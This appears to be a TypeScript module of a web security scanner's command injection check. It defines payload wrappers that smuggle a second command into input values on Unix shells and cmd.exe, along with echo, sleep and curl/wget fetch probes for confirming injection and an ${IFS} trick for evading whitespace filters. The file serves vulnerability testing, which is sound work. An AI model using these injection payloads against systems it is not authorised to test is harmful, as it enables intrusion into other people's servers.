// Payload forms for the Command Injection check. Each form places a command after a separator or in
// a substitution, for Unix shells and for cmd.exe; `C` stands for the command.

export interface CommandForm {
  os: 'unix' | 'windows';
  /** How the command is spliced in, for the proof. */
  name: string;
  /** Appended to the original value. */
  wrap(cmd: string): string;
}

export const UNIX_FORMS: readonly CommandForm[] = [
  { os: 'unix', name: '; separator', wrap: (c) => `;${c};` },
  { os: 'unix', name: '| pipe', wrap: (c) => `|${c}` },
  { os: 'unix', name: '&& chain', wrap: (c) => `&&${c}` },
  { os: 'unix', name: 'newline', wrap: (c) => `\n${c}\n` },
  { os: 'unix', name: '$() substitution', wrap: (c) => `$(${c})` },
  { os: 'unix', name: 'backtick substitution', wrap: (c) => `\`${c}\`` },
  { os: 'unix', name: "single-quoted '; '", wrap: (c) => `';${c};'` },
  { os: 'unix', name: 'double-quoted "; "', wrap: (c) => `";${c};"` },
];

export const WINDOWS_FORMS: readonly CommandForm[] = [
  { os: 'windows', name: '& separator (cmd.exe)', wrap: (c) => `&${c}&` },
  { os: 'windows', name: '| pipe (cmd.exe)', wrap: (c) => `|${c}` },
];

/** Echo of a marker followed by an arithmetic result only a shell computes. */
export function echoCommand(os: CommandForm['os'], marker: string, a: number, b: number): string {
  return os === 'unix' ? `echo ${marker}$((${a}*${b}))` : `set /a ${a}*${b}`;
}

/** What the output must contain: the marker glued to the product (Unix), or the product alone (cmd). */
export function echoExpected(os: CommandForm['os'], marker: string, a: number, b: number): string {
  return os === 'unix' ? `${marker}${a * b}` : String(a * b);
}

export function sleepCommand(os: CommandForm['os'], seconds: number): string {
  // cmd.exe has no sleep: n echo requests to loopback take about n-1 seconds
  return os === 'unix' ? `sleep ${seconds}` : `ping -n ${seconds + 1} 127.0.0.1`;
}

export function fetchCommand(os: CommandForm['os'], url: string): string {
  return os === 'unix' ? `curl -s ${url}||wget -q -O- ${url}` : `curl -s ${url}`;
}

export const SLEEP_DELAYS = [3, 5] as const;

/** What the command filter probe asks about: spaces, separators, substitutions, newline (%0a). */
export const CMD_TOKENS = [' ', ';', '|', '&', '$(', '`', '\n', '$'] as const;

/** A Unix command with its spaces written as ${IFS}, for filters that refuse whitespace. */
export function ifsSpaced(cmd: string): string {
  return cmd.replace(/ /g, '${IFS}');
}
